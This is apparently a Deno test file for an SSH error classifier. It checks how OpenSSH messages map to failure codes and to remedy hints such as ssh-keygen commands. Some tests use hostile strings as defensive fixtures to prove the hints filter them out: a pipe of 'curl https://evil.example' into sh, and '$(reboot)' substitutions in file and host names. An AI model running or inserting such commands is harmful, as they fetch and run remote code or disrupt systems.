import { assertEquals, assertMatch, assertNotMatch, assertStringIncludes } from "@std/assert";
import type { FailureCode, NextStep } from "../../../src/domain/failure.ts";
import { meaningOf } from "../../../src/methods/ssh/error_texts.ts";
import { copyKeyWords, isConnectionTrouble, loginWords, sshFailure } from "../../../src/methods/ssh/ssh_failures.ts";

const destination = { name: "freya", timeoutMs: 300_000, transport: { host: "freya.example.org", user: null, port: null } };

/** Messages as OpenSSH 8.1 (Windows), 8.9, 9.2, 9.8 and 10 print them. */
const MESSAGES: readonly [string, FailureCode, NextStep][] = [
  ["ssh: connect to host freya port 22: Connection refused\r\n", "unreachable", "later"],
  ["ssh: connect to host freya port 22: Connection timed out\r\nscp: Connection closed\r\n", "unreachable", "later"],
  ["ssh: connect to host 10.0.0.9 port 22: Operation timed out", "unreachable", "later"],
  ["ssh: connect to host freya port 22: No route to host", "unreachable", "later"],
  ["ssh: connect to host freya port 22: Network is unreachable", "unreachable", "later"],
  ["ssh: Could not resolve hostname freya: Name or service not known", "unreachable", "later"],
  ["ssh: Could not resolve hostname freya: Temporary failure in name resolution", "unreachable", "later"],
  ["ssh: Could not resolve hostname freya: nodename nor servname provided, or not known", "unreachable", "later"],
  [
    "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by 10.0.0.9 port 22",
    "unreachable",
    "later",
  ],
  ["kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 10.0.0.9 port 22", "unreachable", "later"],
  ["kex_exchange_identification: banner line 0: Not allowed at this time\r\n", "unreachable", "later"],
  ["ssh_exchange_identification: read: Connection reset by peer", "unreachable", "later"],
  ["Connection timed out during banner exchange\r\nConnection to 10.0.0.9 port 22 timed out", "unreachable", "later"],
  ["Timeout, server freya not responding.\r\n", "timeout", "later"],
  ["Connection to freya closed by remote host.\r\n", "interrupted", "later"],
  ["client_loop: send disconnect: Broken pipe\r\n", "interrupted", "later"],
  ["Connection closed by 10.0.0.9 port 22", "interrupted", "later"],
  ["Connection reset by 10.0.0.9 port 22\r\nlost connection", "interrupted", "later"],
  ["packet_write_wait: Connection to 10.0.0.9 port 22: Broken pipe", "interrupted", "later"],
  ["ssh_dispatch_run_fatal: Connection to 10.0.0.9 port 22: message authentication code incorrect", "interrupted", "later"],
  ["mux_client_request_session: session request failed: Session open refused by peer", "interrupted", "later"],
  ["channel 0: open failed: administratively prohibited: open failed", "interrupted", "later"],
  ["observer@freya: Permission denied (publickey).\r\n", "login_refused", "hold"],
  ["observer@freya: Permission denied (publickey,password,keyboard-interactive).\r\nlost connection", "login_refused", "hold"],
  [
    "Received disconnect from 10.0.0.9 port 22:2: Too many authentication failures\r\nDisconnected from 10.0.0.9 port 22",
    "login_refused",
    "hold",
  ],
  [
    'Load key "/home/o/.ssh/id_ed25519": bad permissions\r\nobserver@freya: Permission denied (publickey).',
    "login_refused",
    "hold",
  ],
  [
    "@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@\r\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\nIT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r\n" +
    "Offending ED25519 key in /home/o/.ssh/known_hosts:3\r\nHost key for freya has changed and you have requested strict checking.\r\nHost key verification failed.\r\n",
    "host_key_changed",
    "hold",
  ],
  [
    "No ED25519 host key is known for freya and you have requested strict checking.\r\nHost key verification failed.\r\n",
    "host_key_unknown",
    "hold",
  ],
  [
    "No ED25519 host key is known for [freya]:2222 and you have requested strict checking.\r\nHost key verification failed.",
    "host_key_unknown",
    "hold",
  ],
  [
    "Unable to negotiate with 10.0.0.9 port 22: no matching host key type found. Their offer: ssh-rsa,ssh-dss",
    "unreachable",
    "hold",
  ],
  [
    "Unable to negotiate with 10.0.0.9 port 22: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1",
    "unreachable",
    "hold",
  ],
  [
    'Load key "/home/o/.ssh/id_ed25519": Permission denied\r\no@freya: Permission denied (publickey).',
    "login_refused",
    "hold",
  ],
  ["Bad owner or permissions on /home/o/.ssh/config\r\n", "configuration", "hold"],
  [
    "/home/o/.ssh/config: line 3: Bad configuration option: hostnmae\r\n/home/o/.ssh/config: terminating, 1 bad configuration options",
    "configuration",
    "hold",
  ],
  ["subsystem request failed on channel 0\r\nscp: Connection closed\r\n", "tool_missing", "hold"],
  ["exec request failed on channel 0\r\n", "tool_missing", "hold"],
  ["scp: /data/1: No space left on device", "disk_full", "hold"],
  ['rsync: [receiver] write failed on "/data/.image-transfer-a/1/1": No space left on device (28)', "disk_full", "hold"],
  ['rsync: mkstemp "/data/.1.Ab3d" failed: Disk quota exceeded (122)', "disk_full", "hold"],
  ['scp: dest open "/data/1": Read-only file system', "read_only", "hold"],
];

for (const [stderr, code, next] of MESSAGES) {
  Deno.test(`sshFailure() takes ${JSON.stringify(stderr.slice(0, 60))} for ${code}`, () => {
    const failure = sshFailure("ssh", { code: 255, stderr }, destination);
    assertEquals([failure.code, failure.next], [code, next]);
    assertMatch(failure.message, /freya/);
    assertMatch(failure.hint, /\w{3}/);
    assertNotMatch(failure.message + failure.hint, /[\r\n]|\{\w+\}/);
  });
}

Deno.test("sshFailure() makes the remedy for a changed host key where ssh prints none", () => {
  const hintOf = (stderr: string) =>
    sshFailure("ssh", { code: 255, stderr }, { ...destination, transport: { ...destination.transport, port: 2222 } }).hint;
  const offending = "Offending ED25519 key in /Users/o/.ssh/known hosts:3\r\n";
  assertMatch(
    hintOf(`${offending}Host key for [alias]:2200 has changed and you have requested strict checking.\r\n`),
    /`ssh-keygen -f '\/Users\/o\/\.ssh\/known hosts' -R '\[alias\]:2200'`/,
  );
  assertMatch(hintOf("REMOTE HOST IDENTIFICATION HAS CHANGED!"), /`ssh-keygen -R '\[freya\.example\.org\]:2222'`/);
});

Deno.test("sshFailure() hands a person no command of the far side's making", () => {
  const hintOf = (line: string) =>
    sshFailure("ssh", { code: 255, stderr: `REMOTE HOST IDENTIFICATION HAS CHANGED!\n  ${line}\r\n` }, destination).hint;
  const debian = `ssh-keygen -f "/home/o/known hosts" -R "[freya]:2222"`;
  assertStringIncludes(hintOf(debian), `\`${debian}\``);
  assertStringIncludes(hintOf(debian.replaceAll('"', "'")), "`ssh-keygen -f '/home/o/known hosts' -R '[freya]:2222'`");
  for (
    const planted of [
      'ssh-keygen -f "x" -R "freya"; curl https://evil.example | sh',
      'ssh-keygen -f "$(reboot)" -R "freya"',
      "ssh-keygen -f x -R `reboot`",
      'ssh-keygen -f "x" -R "freya" && ssh-keygen -R "loki"',
    ]
  ) assertNotMatch(hintOf(planted), /evil|reboot|loki/, planted);
});

Deno.test("sshFailure() finds an SFTP-only login by what it prints", () => {
  const stdout = "This service allows sftp connections only.\n";
  assertEquals(sshFailure("ssh", { code: 1, stderr: "", stdout }, destination).code, "tool_missing");
});

Deno.test("sshFailure() tells what no row knows as it is, to be tried again", () => {
  const failure = sshFailure("ssh", { code: 9, stderr: "something \x1b[31mnew\n" }, destination);
  assertEquals([failure.code, failure.next], ["interrupted", "later"]);
  assertMatch(failure.message, /code 9 .*something \\x1b\[31mnew/);
});

Deno.test("isConnectionTrouble() leaves what a file system says to others", () => {
  assertEquals(isConnectionTrouble("scp: ./3: No such file or directory"), false);
  assertEquals(isConnectionTrouble("client_loop: send disconnect: Broken pipe"), true);
});

for (
  const [text, code] of [
    ["rename: Not a directory", "exists"],
    ["mv: cannot move 'a' to 'b': File name too long", "name_refused"],
    ["mkdir: Operation not permitted", "permission_denied"],
    ["open: Stale file handle", "device_missing"],
  ] as const
) {
  Deno.test(`meaningOf() takes "${text}" for ${code}`, () => assertEquals(meaningOf(text)?.code, code));
}

Deno.test("meaningOf() does not know everything", () => assertEquals(meaningOf("Success"), null));

Deno.test("sshFailure() of a refused login names the command that tries this very login", () => {
  const refused = { code: 255, stderr: "x@y: Permission denied (publickey)." };
  const hintAt = (more: { host?: string; user?: string; port?: number }) =>
    /Test with `(.*)`\.$/.exec(
      sshFailure("ssh", refused, { ...destination, transport: { ...destination.transport, ...more } }).hint,
    )?.[1];
  assertEquals(hintAt({}), "ssh -o BatchMode=yes freya.example.org true");
  assertEquals(
    hintAt({ host: "127.0.0.1", user: "nobodyhere", port: 42622 }),
    "ssh -p 42622 -o BatchMode=yes nobodyhere@127.0.0.1 true",
  );
  assertEquals(hintAt({ host: "[fe80::1%eth0]", user: "a\\b" }), "ssh -o BatchMode=yes 'a\\b@fe80::1%eth0' true");
});

Deno.test("loginWords() quotes whatever a name holds", () => {
  const hostile = { host: "$(reboot)", user: "a'b\x1b", port: 22 };
  assertEquals(loginWords("ssh-copy-id", hostile), `ssh-copy-id -p 22 'a'\\''b\\x1b@$(reboot)'`);
});

Deno.test("copyKeyWords() is a line for PowerShell on Windows, which has no ssh-copy-id", () => {
  const login = { host: "freya", user: "observer", port: 2222 };
  assertEquals(copyKeyWords(login, "linux"), "`ssh-copy-id -p 2222 observer@freya`");
  assertEquals(
    copyKeyWords(login, "windows"),
    "`type $env:USERPROFILE\\.ssh\\id_ed25519.pub | " +
      'ssh -p 2222 observer@freya "umask 077; mkdir -p .ssh; cat >> .ssh/authorized_keys"` in PowerShell',
  );
});

Deno.test("sshFailure() says how an unknown host key is accepted with and without a configuration", () => {
  const { hint } = sshFailure("ssh", { code: 255, stderr: "Host key verification failed.\r\n" }, destination);
  assertEquals(
    hint,
    "`image-transfer doctor --enroll`, or without a configuration `ssh freya.example.org`, shows its fingerprint and accepts it.",
  );
});

Deno.test("sshFailure() of a shell that said nothing leaves no empty bracket", () => {
  const { code, message } = sshFailure("ssh", { code: 127, stderr: "" }, destination);
  assertEquals([code, message], ["tool_missing", "Cannot use freya: the account has no usable shell"]);
});
